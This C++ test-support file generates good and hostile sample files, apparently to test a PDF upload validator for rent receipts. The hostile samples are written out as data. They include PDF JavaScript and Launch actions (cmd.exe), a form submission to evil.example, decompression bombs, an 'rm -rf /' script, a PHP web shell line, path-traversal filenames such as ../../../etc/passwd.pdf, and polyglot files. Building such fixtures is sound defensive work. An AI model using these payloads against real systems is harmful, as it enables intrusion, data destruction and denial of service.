#include "support/sample_files.hpp"

#include <zlib.h>

#include <cstdint>
#include <cstdio>
#include <qpdf/QPDF.hh>
#include <qpdf/QPDFWriter.hh>

#include "base/check.hpp"

namespace support {

namespace {

std::string big_endian(std::uint32_t number) {
    std::string bytes;
    for (int shift = 24; shift >= 0; shift -= 8) bytes += static_cast<char>(number >> shift & 0xFF);
    return bytes;
}

std::string png_chunk(const std::string& type, const std::string& data) {
    const auto checked = type + data;
    const auto checksum =
        crc32(0, reinterpret_cast<const Bytef*>(checked.data()), static_cast<uInt>(checked.size()));
    return big_endian(static_cast<std::uint32_t>(data.size())) + checked +
           big_endian(static_cast<std::uint32_t>(checksum));
}

std::string rewritten(const std::string& pdf, const std::function<void(QPDFWriter&)>& set) {
    QPDF read;
    read.processMemoryFile("sample", pdf.data(), pdf.size());
    QPDFWriter writer(read);
    writer.setOutputMemory();
    set(writer);
    writer.write();
    const auto buffer = writer.getBufferSharedPointer();
    return {reinterpret_cast<const char*>(buffer->getBuffer()), buffer->getSize()};
}

}  // namespace

int PdfText::add(std::string object) {
    objects_.push_back(std::move(object));
    return static_cast<int>(objects_.size()) + 3;
}

int PdfText::add_stream(const std::string& dictionary, const std::string& data) {
    return add("<< /Length " + std::to_string(data.size()) + " " + dictionary + " >>\nstream\n" +
               data + "\nendstream");
}

PdfText& PdfText::in_catalogue(std::string entries) {
    catalogue_ += std::move(entries);
    return *this;
}

PdfText& PdfText::in_page(std::string entries) {
    page_ += std::move(entries);
    return *this;
}

PdfText& PdfText::in_trailer(std::string entries) {
    trailer_ += std::move(entries);
    return *this;
}

std::string PdfText::text() const {
    std::vector<std::string> all = {
        "<< /Type /Catalog /Pages 2 0 R " + catalogue_ + " >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_ + " >>"};
    all.insert(all.end(), objects_.begin(), objects_.end());
    std::string text = "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n";
    std::string table = "0000000000 65535 f \n";
    for (std::size_t i = 0; i < all.size(); ++i) {
        char row[32];
        std::snprintf(row, sizeof row, "%010zu 00000 n \n", text.size());
        table += row;
        text += std::to_string(i + 1) + " 0 obj\n" + all[i] + "\nendobj\n";
    }
    const auto start = text.size();
    const auto size = std::to_string(all.size() + 1);
    text += "xref\n0 " + size + "\n" + table + "trailer\n<< /Size " + size + " /Root 1 0 R " +
            trailer_ + " >>\nstartxref\n" + std::to_string(start) + "\n%%EOF\n";
    return text;
}

std::string deflated(const std::string& data) {
    auto size = compressBound(static_cast<uLong>(data.size()));
    std::string packed(size, '\0');
    CHECK(compress2(reinterpret_cast<Bytef*>(packed.data()), &size,
                    reinterpret_cast<const Bytef*>(data.data()), static_cast<uLong>(data.size()),
                    9) == Z_OK);
    packed.resize(size);
    return packed;
}

std::string deflated_zeros(std::size_t size) {
    return deflated(std::string(size, '\0'));
}

std::string good_pdf() {
    PdfText pdf;
    const auto content = pdf.add_stream(
        "/Filter /FlateDecode", deflated("BT /F1 12 Tf 72 720 Td (Quittance de loyer) Tj ET"));
    const auto font = pdf.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    pdf.in_page("/Contents " + std::to_string(content) + " 0 R /Resources << /Font << /F1 " +
                std::to_string(font) + " 0 R >> >>");
    return pdf.text();
}

std::string compressed_pdf() {
    return rewritten(good_pdf(), [](QPDFWriter& writer) {
        writer.setObjectStreamMode(qpdf_o_generate);
        writer.setDeterministicID(true);
    });
}

std::string good_png(unsigned width, unsigned height) {
    const auto header =
        big_endian(width) + big_endian(height) + std::string("\x08\x00\x00\x00\x00", 5);
    return std::string("\x89PNG\r\n\x1A\n", 8) + png_chunk("IHDR", header) +
           png_chunk("IDAT", deflated(std::string(8 * 9, '\x7F'))) + png_chunk("IEND", "");
}

std::string good_jpeg() {
    std::string jpeg("\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00", 20);
    jpeg += std::string("\xFF\xC0\x00\x0B\x08\x00\x08\x00\x08\x01\x01\x11\x00", 13);
    jpeg += std::string("\xFF\xDA\x00\x08\x01\x01\x00\x00\x3F\x00\x7F\x7F\xFF\xD9", 14);
    return jpeg;
}

// ---- The enemies ----

namespace {

using files::Fault;

class Collection {
 public:
    void add(std::string what, std::string content, Fault fault,
             std::string name = "justificatif.pdf", std::string type = "application/pdf") {
        files_.push_back(
            {std::move(what), std::move(name), std::move(type), std::move(content), fault});
    }
    /// A PDF whose catalogue or page holds this.
    void add_in_catalogue(std::string what, const std::string& entries, Fault fault) {
        PdfText pdf;
        add(std::move(what), pdf.in_catalogue(entries).text(), fault);
    }
    void add_in_page(std::string what, const std::string& entries, Fault fault) {
        PdfText pdf;
        add(std::move(what), pdf.in_page(entries).text(), fault);
    }
    [[nodiscard]] std::vector<HostileFile> take() { return std::move(files_); }

 private:
    std::vector<HostileFile> files_;
};

void add_scripts(Collection& all) {
    const std::string script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    all.add_in_catalogue("script at opening", "/OpenAction " + script, Fault::has_script);
    all.add_in_catalogue("script of the document",
                         "/Names << /JavaScript << /Names [(a) " + script + "] >> >>",
                         Fault::has_script);
    all.add_in_catalogue("script when closing", "/AA << /WC " + script + " >>", Fault::has_script);
    all.add_in_page("script of the page", "/AA << /O " + script + " >>", Fault::has_script);
    all.add_in_page("script of an annotation",
                    "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + script + " >>]",
                    Fault::has_script);
    all.add_in_catalogue("script with a name in disguise",
                         "/OpenAction << /S /J#61vaScript /#4a#53 (app.alert\\(1\\)) >>",
                         Fault::has_script);
    all.add_in_catalogue(
        "script in an action that follows",
        "/OpenAction << /S /URI /URI (https://a.example) /Next [" + script + "] >>",
        Fault::has_script);
    all.add_in_catalogue(
        "script of a form field",
        "/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K " + script + " >> >>] >>",
        Fault::has_script);
    PdfText elsewhere;
    const auto code = elsewhere.add_stream("", "app.alert(1)");
    const auto action = elsewhere.add("<< /S /JavaScript /JS " + std::to_string(code) + " 0 R >>");
    elsewhere.in_catalogue("/OpenAction " + std::to_string(action) + " 0 R");
    all.add("script in another object", elsewhere.text(), Fault::has_script);
    all.add("script in a compressed object",
            rewritten(elsewhere.text(),
                      [](QPDFWriter& writer) { writer.setObjectStreamMode(qpdf_o_generate); }),
            Fault::has_script);
    all.add_in_page("rendition with a script",
                    "/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS (a) >> "
                    ">>]",
                    Fault::has_script);
}

void add_actions(Collection& all) {
    all.add_in_catalogue("launch of a program", "/OpenAction << /S /Launch /F (cmd.exe) >>",
                         Fault::starts_program);
    all.add_in_catalogue("launch, for Windows",
                         "/OpenAction << /S /Launch /Win << /F (calc.exe) >> >>",
                         Fault::starts_program);
    all.add_in_page("launch by a link",
                    "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.sh) >> >>]",
                    Fault::starts_program);
    all.add_in_catalogue("launch with a name in disguise",
                         "/OpenAction << /S /L#61unch /F (cmd.exe) >>", Fault::starts_program);
    all.add_in_catalogue("form that sends itself",
                         "/OpenAction << /S /SubmitForm /F (https://evil.example) >>",
                         Fault::starts_program);
    all.add_in_catalogue("form that loads data", "/OpenAction << /S /ImportData /F (data.fdf) >>",
                         Fault::starts_program);
    all.add_in_catalogue("jump into another file",
                         "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] "
                         ">>",
                         Fault::starts_program);
    all.add_in_catalogue("jump into an embedded file", "/OpenAction << /S /GoToE /D [0 /Fit] >>",
                         Fault::starts_program);
}

void add_attachments(Collection& all) {
    for (const std::string kind : {"names", "annotation", "media"}) {
        PdfText pdf;
        const auto file = std::to_string(pdf.add_stream("/Type /EmbeddedFile", "MZ\x90"));
        const auto spec = std::to_string(
            pdf.add("<< /Type /Filespec /F (a.exe) /EF << /F " + file + " 0 R >> >>"));
        if (kind == "names")
            pdf.in_catalogue("/Names << /EmbeddedFiles << /Names [(a) " + spec + " 0 R] >> >>");
        if (kind == "annotation")
            pdf.in_page("/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS " + spec +
                        " 0 R >>]");
        if (kind == "media")
            pdf.in_page(
                "/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << "
                "/Assets << /Names [(a) " +
                spec + " 0 R] >> >> >>]");
        all.add("file attached by " + kind, pdf.text(), Fault::has_attachment);
    }
    all.add_in_catalogue("XFA form", "/AcroForm << /Fields [] /XFA (<xdp></xdp>) >>",
                         Fault::dynamic_form);
    PdfText xfa;
    const auto form = xfa.add_stream("", "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>");
    xfa.in_catalogue("/AcroForm << /XFA [(template) " + std::to_string(form) + " 0 R] >>");
    all.add("XFA form in parts", xfa.text(), Fault::dynamic_form);
}

void add_bombs(Collection& all) {
    constexpr std::size_t huge = files::most_unfolded_bytes + 1024 * 1024;
    const auto bomb = deflated_zeros(huge);
    PdfText page;
    const auto content = page.add_stream("/Filter /FlateDecode", bomb);
    page.in_page("/Contents " + std::to_string(content) + " 0 R");
    all.add("bomb as a page", page.text(), Fault::unfolds);
    PdfText many;
    const auto part = deflated_zeros(huge / 4);
    for (int i = 0; i < 5; ++i) many.add_stream("/Filter /FlateDecode", part);
    all.add("bomb in five parts", many.text(), Fault::unfolds);
    PdfText nested;
    nested.add_stream("/Filter [/FlateDecode /FlateDecode]", deflated(bomb));
    all.add("bomb in a bomb", nested.text(), Fault::unfolds);
    PdfText structure;
    structure.add_stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb);
    all.add("bomb as an object stream", structure.text(), Fault::unfolds);
    PdfText lzw;
    lzw.add_stream("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", std::string(1000, '\x80'));
    all.add("object stream of an odd kind", lzw.text(), Fault::unfolds);
    PdfText hidden;
    hidden.add_stream(
        "/Type /Obj#53tm /N 1 /First 4 /Filter [/A85 /Fl] /F /ASCII85Decode "
        "/LZWDecode",
        "zzzz~>");
    all.add("object stream in disguise", hidden.text(), Fault::unfolds);
    PdfText elsewhere;
    const auto name = elsewhere.add("/FlateDecode");
    elsewhere.add_stream("/Filter " + std::to_string(name) + " 0 R", bomb.substr(0, 100));
    all.add("filter said elsewhere", elsewhere.text(), Fault::unfolds);
    std::string streams;
    for (int i = 0; i < 600'000; ++i) streams += "stream ";
    all.add("nothing but beginnings of streams", "%PDF-1.4\n" + streams + "\n%%EOF\n",
            Fault::unfolds);
    all.add("picture of four thousand million points", good_png(65535, 65535), Fault::wrong_type,
            "plan.png", "image/png");
}

/// Readers that follow them call themselves as often as there are objects.
void add_abysses(Collection& all) {
    constexpr int deep = 50'000;
    const auto reference = [](int number) { return std::to_string(number) + " 0 R"; };
    PdfText tree;
    for (int i = 4; i < deep; ++i)
        tree.add("<< /Type /Pages /Count 1 /Kids [" + reference(i + 1) + "] >>");
    tree.add("<< /Type /Page /MediaBox [0 0 9 9] >>");
    tree.in_catalogue("/Pages 4 0 R");
    all.add("page tree without a bottom", tree.text(), Fault::damaged);
    PdfText lengths;
    for (int i = 4; i < deep; ++i)
        lengths.add("<< /Length " + reference(i + 1) + " >>\nstream\n\nendstream");
    lengths.add("0");
    all.add("lengths that stand elsewhere, without end", lengths.text(), Fault::unfolds);
}

void add_other_types(Collection& all) {
    all.add("renamed PNG", good_png(), Fault::wrong_type);
    all.add("renamed JPEG", good_jpeg(), Fault::wrong_type);
    all.add("web page", "<!doctype html><script>alert(1)</script>", Fault::wrong_type);
    all.add("drawing with a script",
            "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" "
            "onload=\"alert(1)\"/>",
            Fault::wrong_type);
    all.add("Windows program",
            "MZ" + std::string(58, '\0') + std::string("\x80\0\0\0", 4) + std::string(64, '\0') +
                std::string("PE\0\0", 4) + std::string(200, '\0'),
            Fault::wrong_type);
    all.add("Linux program",
            "\x7F"
            "ELF\x02\x01\x01" +
                std::string(57, '\0'),
            Fault::wrong_type);
    all.add("shell script", "#!/bin/sh\nrm -rf /\n", Fault::wrong_type);
    all.add("PHP program", "<?php system($_GET['c']); ?>", Fault::wrong_type);
    all.add("archive", std::string("PK\x03\x04\x14\0\0\0\0\0", 10) + std::string(60, '\0'),
            Fault::wrong_type);
    all.add("old Word document",
            std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + std::string(504, '\0'),
            Fault::wrong_type);
    all.add("PostScript", "%!PS-Adobe-3.0\n(%pipe%id) (r) file\n", Fault::wrong_type);
    all.add("plain text that says it is a PDF", "PDF, promised.\n", Fault::wrong_type);
    all.add("zeros", std::string(4096, '\0'), Fault::wrong_type);
    all.add("picture where a PDF is asked for", good_png(), Fault::wrong_type, "quittance.png",
            "image/png");
}

void add_disguised(Collection& all) {
    all.add("announced as a picture", good_pdf(), Fault::disguised, "quittance.pdf", "image/png");
    all.add("announced as a web page", good_pdf(), Fault::disguised, "quittance.pdf",
            "text/html; charset=utf-8");
    all.add("with a program's extension", good_pdf(), Fault::disguised, "quittance.pdf.exe");
    all.add("with a web page's extension", good_pdf(), Fault::disguised, "quittance.html");
    all.add("with a path and a script's extension", good_pdf(), Fault::disguised,
            "../../../etc/cron.d/quittance.sh");
    all.add("path in its name and nothing in it", "", Fault::empty, "../../../etc/passwd.pdf");
    all.add("path of Windows in its name", "not a PDF", Fault::wrong_type,
            "C:\\Windows\\system32\\a.pdf");
}

void add_polyglots(Collection& all) {
    const auto good = good_pdf();
    const std::string archive_end = std::string("PK\x05\x06", 4) + std::string(18, '\0');
    all.add("PDF that is an archive, too", good + archive_end, Fault::two_in_one);
    all.add("PDF that is an archive with a comment",
            good + std::string("PK\x05\x06", 4) + std::string(16, '\0') + std::string("\x06\0", 2) +
                "%%EOF\n",
            Fault::two_in_one);
    all.add("PDF with a program behind it", good + "MZ" + std::string(500, '\x01'),
            Fault::two_in_one);
    all.add("PDF with a script behind it", good + "<script>alert(1)</script>", Fault::two_in_one);
    auto page = good;
    page.insert(9, "%<html><script>alert(1)</script></html>\n");
    all.add("PDF that begins as a web page", page, Fault::two_in_one);
    all.add("picture with a PDF behind it", good_png() + good, Fault::wrong_type);
    all.add("GIF that is a PDF, too", "GIF89a/*" + good, Fault::wrong_type);
}

void add_broken(Collection& all) {
    const auto good = good_pdf();
    all.add("nothing", "", Fault::empty);
    all.add("cut in the middle", good.substr(0, good.size() / 2), Fault::damaged);
    all.add("cut before its last line", good.substr(0, good.size() - 7), Fault::damaged);
    all.add("only a header", "%PDF-1.7\n", Fault::damaged);
    all.add("header and end, nothing between", "%PDF-1.7\n%%EOF\n", Fault::damaged);
    all.add(
        "without pages",
        [] {
            auto text = good_pdf();
            text.replace(text.find("/Kids [3 0 R] /Count 1"), 22, "/Kids [     ] /Count 0");
            return text;
        }(),
        Fault::damaged);
    all.add("noise after the header", "%PDF-1.7\n" + std::string(3000, '\xA5') + "\n%%EOF\n",
            Fault::damaged);
    for (const bool opens : {true, false}) {
        all.add(opens ? "encrypted, opens without a password" : "encrypted",
                rewritten(good,
                          [&](QPDFWriter& writer) {
                              writer.setR6EncryptionParameters(opens ? "" : "secret", "owner", true,
                                                               true, true, true, true, true,
                                                               qpdf_r3p_full, true);
                          }),
                Fault::encrypted);
    }
    all.add("one byte too many", good + std::string(files::most_bytes + 1 - good.size(), '\n'),
            Fault::too_large);
}

}  // namespace

std::vector<HostileFile> hostile_files() {
    Collection all;
    add_scripts(all);
    add_actions(all);
    add_attachments(all);
    add_bombs(all);
    add_abysses(all);
    add_other_types(all);
    add_disguised(all);
    add_polyglots(all);
    add_broken(all);
    return all.take();
}

}  // namespace support
